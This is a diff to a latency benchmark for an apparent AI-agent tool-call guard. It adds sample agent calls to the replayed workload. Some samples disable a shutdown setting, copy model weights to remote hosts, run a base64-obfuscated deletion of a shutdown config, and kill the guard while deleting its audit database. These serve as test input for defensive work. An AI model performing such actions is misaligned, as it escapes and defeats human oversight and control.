@@ -2,7 +2,8 @@
 
 Goal: p99 under 1 ms on 2 cores. Each decision runs in a session that carries the
 trajectory so far (sequence rules look back over it), so the workload replays
-agent-like trajectories of world-tool and shell calls, 60 calls long. The
+agent-like trajectories of world-tool, shell, harness-tool and unknown-tool calls,
+60 calls long, under the default policy with its tool mappings. The
 baseline, run in the same process on the same calls, is the cheapest guard one
 could write: match every string argument against the weight-file patterns with
 `fnmatch`. The ratio says what the full policy costs over that.
@@ -53,12 +54,22 @@ SHELL_CALLS: list[Call] = [
     ("bash", {"cmd": "rsync -av logs/ backup-1:/srv/logs/ && echo done"}),
     ("bash", {"cmd": "systemctl restart nginx; journalctl -u nginx -n 50"}),
 ]
+HARNESS_CALLS: list[Call] = [
+    ("Edit", {"file_path": "src/app.py", "old_string": "x = 1", "new_string": "x = 2"}),
+    ("Write", {"file_path": "deploy/agentd.yaml", "content": "shutdown_enabled: false\n"}),
+    ("shell", {"command": ["bash", "-lc", "for f in /srv/models/*.gguf; do scp $f h:; done"]}),
+    ("apply_patch", {"input": "*** Begin Patch\n*** Update File: src/a.py\n-a\n+b\n"}),
+    ("mcp__filesystem__move_file", {"source": "/srv/models/m", "destination": "/tmp/m"}),
+    ("transfer_files", {"files": ["orca-13b.safetensors"], "destination": "10.2.2.2"}),
+    ("bash", {"cmd": "echo cm0gLWYgc2h1dGRvd25fY29uZmlnLnlhbWw= | base64 -d | sh"}),
+    ("bash", {"cmd": "pkill -f 'offswitch guard serve'; rm -f guard_audit.sqlite"}),
+]
 TRAJECTORY_LENGTH = 60
 
 
 def trajectory(seed: int) -> list[Call]:
-    """A trajectory mixing world and shell calls, different for each seed."""
-    pool = WORLD_CALLS + SHELL_CALLS
+    """A trajectory mixing world, shell and harness calls, different for each seed."""
+    pool = WORLD_CALLS + SHELL_CALLS + HARNESS_CALLS
     return [pool[(seed * 7 + i * 5) % len(pool)] for i in range(TRAJECTORY_LENGTH)]
 
 
